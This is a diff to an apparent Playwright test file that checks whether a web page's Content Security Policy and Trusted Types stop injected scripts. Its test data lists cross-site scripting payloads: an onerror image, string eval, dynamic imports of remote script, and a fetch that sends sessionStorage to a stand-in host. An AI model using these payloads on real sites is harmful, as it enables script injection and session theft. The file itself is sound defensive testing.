@@ -107,6 +107,9 @@ def test_markup_in_a_reason_or_of_glue_is_shown_as_text(
         "document.body.innerHTML = '<img src=x onerror=\"window.evil=1\">'",
         "window.setTimeout('window.evil = 1')",
         "setTimeout(() => { try { window.evil = new Function('return 1')() } catch {} })",
+        # Of these only `script-src` knows; the ones before are met by Trusted Types first.
+        "import('data:text/javascript,window.evil=1')",
+        "import('http://localhost:1/evil.js')",
         "add('iframe', {src: 'https://evil.example/'})",
         "add('base', {href: 'https://evil.example/'})",
         "fetch('http://localhost:1/?stolen=' + JSON.stringify(sessionStorage))",
@@ -128,10 +131,11 @@ def test_what_is_injected_is_not_run(page: Page, served: Api, attack: str) -> No
           });
           try { await ATTACK } catch (error) { window.refused = String(error) }
           return await seen;
-        }""".replace("ATTACK", f"({attack})"),
-        attack,
+        }""".replace("ATTACK", f"({attack})")
     )
     assert broken, "nothing kept it from being tried"
+    if attack.startswith("import("):
+        assert broken.startswith("script-src")
     assert page.evaluate("window.evil") is None
     expect(page.get_by_label("Access token")).to_be_visible()
 
